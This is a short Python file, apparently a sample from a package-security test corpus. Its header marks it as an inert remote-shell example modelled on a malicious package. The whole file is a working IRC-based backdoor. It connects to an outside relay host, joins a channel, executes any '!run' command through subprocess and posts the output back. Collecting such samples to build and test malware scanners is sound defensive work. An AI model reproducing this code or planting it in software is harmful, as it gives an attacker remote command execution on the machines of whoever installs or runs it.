# pkgguard corpus 687 (remote-shell), modelled on [discordpydebug]; inert, never run.
import socket
import subprocess

irc = socket.create_connection(("chat.irc-relay.example", 6667))
irc.send(b"NICK pkgbot\r\nUSER pkgbot 0 * :pkg\r\nJOIN #ops\r\n")
buf = b""
while True:
    buf += irc.recv(4096)
    *lines, buf = buf.split(b"\r\n")
    for line in lines:
        if line.startswith(b"PING"):
            irc.send(line.replace(b"PING", b"PONG") + b"\r\n")
        elif b"PRIVMSG #ops :!run " in line:
            cmd = line.split(b"!run ", 1)[1].decode()
            out = subprocess.getoutput(cmd)
            for row in out.splitlines()[:20]:
                irc.send(f"PRIVMSG #ops :{row}\r\n".encode())
